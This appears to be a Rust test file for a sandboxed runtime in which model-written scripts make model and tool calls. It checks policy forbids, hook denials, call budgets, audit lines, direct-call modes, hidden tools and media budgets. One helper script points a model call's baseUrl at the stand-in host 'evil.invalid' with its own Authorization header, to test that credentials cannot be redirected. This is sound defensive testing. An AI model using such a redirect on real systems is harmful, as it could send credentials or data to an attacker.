//! The three gaps of the reference system, closed: model calls from scripts are decided by
//! policy, hooks and budgets and audited; mode `only` refuses direct calls by the model.

use crate::common;

use codemode_gate::{BudgetLimits, Budgets};
use codemode_runtime::ScriptRequest;
use codemode_spec::CodemodeMode;
use common::*;
use serde_json::json;

fn classify(n: usize) -> String {
    format!(
        "const m = {{ provider: \"p\", id: \"judge\", baseUrl: \"http://evil.invalid\", headers: {{ Authorization: \"x\" }} }};
         const rs = await Promise.allSettled(Array.from({{ length: {n} }}, () => models.classify(m, {CLASSIFY_CONTEXT})));
         return rs.map(r => r.status === \"fulfilled\" ? r.value.stopReason : r.reason.message)"
    )
}

#[tokio::test]
async fn a_policy_forbid_on_the_model_stops_the_call_and_is_audited() {
    let policy = format!(
        "{PERMIT_ALL}@id(\"no-judge\")\nforbid (principal, action == Action::\"model_call\", resource == Model::\"p/judge\");\n"
    );
    let world = world(Options {
        policy,
        ..Default::default()
    })
    .await;
    let run = world
        .codemode
        .run_script(ScriptRequest::new(classify(1), "s1"))
        .await;
    assert!(!run.is_error, "{}", run.text);
    let v = run.result.unwrap().value.unwrap();
    let msg = v[0].as_str().unwrap();
    assert!(msg.contains("no-judge"), "{msg}");
    assert!(
        world.provider.requests().is_empty(),
        "the provider must not be reached"
    );
    let audit = audit_lines(&world);
    let line = audit
        .iter()
        .find(|l| l.to_string().contains("models.classify"))
        .expect("audited");
    assert!(line.to_string().contains("no-judge"), "{line}");
}

#[tokio::test]
async fn a_hook_denial_stops_a_model_call() {
    let world = world(Options::default()).await;
    world
        .recorder
        .deny
        .lock()
        .unwrap()
        .push("models.classify".into());
    let run = world
        .codemode
        .run_script(ScriptRequest::new(classify(1), "s1"))
        .await;
    let v = run.result.unwrap().value.unwrap();
    assert!(
        v[0].as_str().unwrap().contains("the test hook denies"),
        "{v}"
    );
    assert!(world.provider.requests().is_empty());
    assert!(
        audit_lines(&world)
            .iter()
            .any(|l| l.to_string().contains("models.classify"))
    );
}

#[tokio::test]
async fn a_model_call_budget_lets_exactly_that_many_run() {
    let budgets = Budgets {
        script: BudgetLimits {
            max_model_calls: Some(10),
            ..Default::default()
        },
        ..Default::default()
    };
    let world = world(Options {
        budgets,
        ..Default::default()
    })
    .await;
    let run = world
        .codemode
        .run_script(ScriptRequest::new(classify(1000), "s1"))
        .await;
    assert!(!run.is_error, "{}", run.text);
    let v = run.result.as_ref().unwrap().value.clone().unwrap();
    let answers = v.as_array().unwrap();
    let ran = answers
        .iter()
        .filter(|a| a.as_str() == Some("stop"))
        .count();
    assert_eq!(ran, 10, "exactly the budget runs");
    let refused = answers
        .iter()
        .filter(|a| a.as_str().unwrap().contains("max_model_calls"))
        .count();
    assert_eq!(
        refused,
        990,
        "the rest are refused naming the budget: {:?}",
        &answers[..12]
    );
    assert_eq!(world.provider.requests().len(), 10);
    // The script cannot redirect credentials: the provider saw only the catalog's URL and key.
    for r in world.provider.requests() {
        assert_eq!(r.authorization.as_deref(), Some("Bearer codemode-runtime"));
        assert!(r.path.ends_with("/chat/completions"), "{}", r.path);
    }
    // Usage lands on the run, on each model call's record, and in the text the model reads.
    assert_eq!(run.usage.input_tokens, 10 * 100);
    let structured = run.structured();
    let rows: Vec<&serde_json::Value> = structured["calls"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["name"] == "models.classify")
        .collect();
    assert_eq!(rows.len(), 1000, "every model call has a record");
    assert_eq!(rows.iter().filter(|c| c["status"] == "ok").count(), 10);
    assert!(
        rows.iter().any(|c| c["usage"]["inputTokens"] == 100),
        "{:?}",
        rows[0]
    );
    assert!(rows.iter().all(|c| c["kind"] == "model"));
    assert!(run.text.contains("Model usage"), "{}", run.text);
}

#[tokio::test]
async fn mode_only_refuses_the_models_direct_call_but_scripts_may_call() {
    let world = world(Options {
        mode: CodemodeMode::Only,
        ..Default::default()
    })
    .await;
    assert!(world.codemode.model_declared_tools().is_empty());
    let err = world
        .codemode
        .call_direct("shell", json!({}), "s1", None, Default::default())
        .await
        .expect_err("refused");
    assert!(err.message.contains("tools.shell"), "{}", err.message);
    let audit = audit_lines(&world);
    assert!(
        audit.iter().any(|l| l.to_string().contains("shell")),
        "the refusal is audited"
    );
    let run = world
        .codemode
        .run_script(ScriptRequest::new(
            "return await tools.shell({ ok: 1 })",
            "s1",
        ))
        .await;
    assert!(!run.is_error, "{}", run.text);
}

#[tokio::test]
async fn mode_on_declares_direct_tools_with_a_note_and_runs_them() {
    let world = world(Options::default()).await;
    let declared = world.codemode.model_declared_tools();
    assert_eq!(
        declared.iter().map(|s| s.name.as_str()).collect::<Vec<_>>(),
        ["shell"]
    );
    assert!(
        declared[0].description.contains("tools.shell"),
        "{}",
        declared[0].description
    );
    let out = world
        .codemode
        .call_direct("shell", json!({"x": 1}), "s1", None, Default::default())
        .await
        .unwrap();
    assert_eq!(out.value, json!({"x": 1}));
}

#[tokio::test]
async fn hidden_tools_are_callable_by_nobody() {
    let world = world(Options::default()).await;
    let run = world
        .codemode
        .run_script(ScriptRequest::new(
            "try { await tools.secret({}) } catch (e) { return e.message }",
            "s1",
        ))
        .await;
    assert!(
        !run.result
            .unwrap()
            .value
            .unwrap()
            .as_str()
            .unwrap()
            .is_empty()
    );
    assert!(
        world
            .codemode
            .call_direct("secret", json!({}), "s1", None, Default::default())
            .await
            .is_err()
    );
    assert!(!world.recorder.names().contains(&"secret".to_string()));
}

#[tokio::test]
async fn store_values_live_per_session_and_only_after_success() {
    let world = world(Options::default()).await;
    let ok = world
        .codemode
        .run_script(ScriptRequest::new(
            "store(\"k\", 1); return load(\"k\")",
            "a",
        ))
        .await;
    assert!(!ok.is_error, "{}", ok.text);
    let failed = world
        .codemode
        .run_script(ScriptRequest::new(
            "store(\"k\", 2); throw new Error(\"no\")",
            "a",
        ))
        .await;
    assert!(failed.is_error);
    let read = world
        .codemode
        .run_script(ScriptRequest::new("return load(\"k\")", "a"))
        .await;
    assert_eq!(read.result.unwrap().value, Some(json!(1)));
    let other = world
        .codemode
        .run_script(ScriptRequest::new("return load(\"k\") ?? null", "b"))
        .await;
    assert_eq!(other.result.unwrap().value, Some(json!(null)));
}

#[tokio::test]
async fn unshown_generated_images_are_mentioned() {
    let world = world(Options::default()).await;
    let run = world
        .codemode
        .run_script(ScriptRequest::new(
            "const r = await models.generateImages({ provider: \"p\", id: \"painter\" }, { input: [{ type: \"text\", text: \"fox\" }] }); return r.stopReason",
            "s1",
        ))
        .await;
    assert!(!run.is_error, "{}", run.text);
    assert!(run.text.contains("did not show"), "{}", run.text);
    assert!(
        run.usage.images >= 1 || run.usage.cost_usd > 0.0,
        "{:?}",
        run.usage
    );
}

/// Returned blocks the output budget left out still said "sent as its own content block" in
/// the returned value the model reads, beside the `Note:` saying some were not sent.
#[tokio::test]
async fn returned_media_the_budget_leaves_out_say_so() {
    let world = world(Options::default()).await;
    // Three PDFs of 1,500 bytes cost 375 tokens each; media may take 1,000 of the 2,000.
    let run = world
        .codemode
        .run_script(ScriptRequest::new(
            r#"// @options: {"max_output_tokens": 2000}
               const blob = btoa("x".repeat(1500));
               return [1, 2, 3].map(i => ({ type: "resource",
                 resource: { uri: "file:///n" + i + ".pdf", blob, mimeType: "application/pdf" } }));"#,
            "s1",
        ))
        .await;
    assert!(!run.is_error, "{}", run.text);
    assert_eq!(run.media.len(), 2, "{}", run.text);
    let value = run.result.unwrap().value.unwrap();
    assert_eq!(value[0]["note"], "sent as its own content block (media 1)");
    assert_eq!(value[1]["note"], "sent as its own content block (media 2)");
    let third = value[2]["note"].as_str().unwrap();
    assert!(third.starts_with("not sent:"), "{third}");
    assert!(
        run.text.contains("1 of the 3 media blocks were not sent"),
        "{}",
        run.text
    );
}
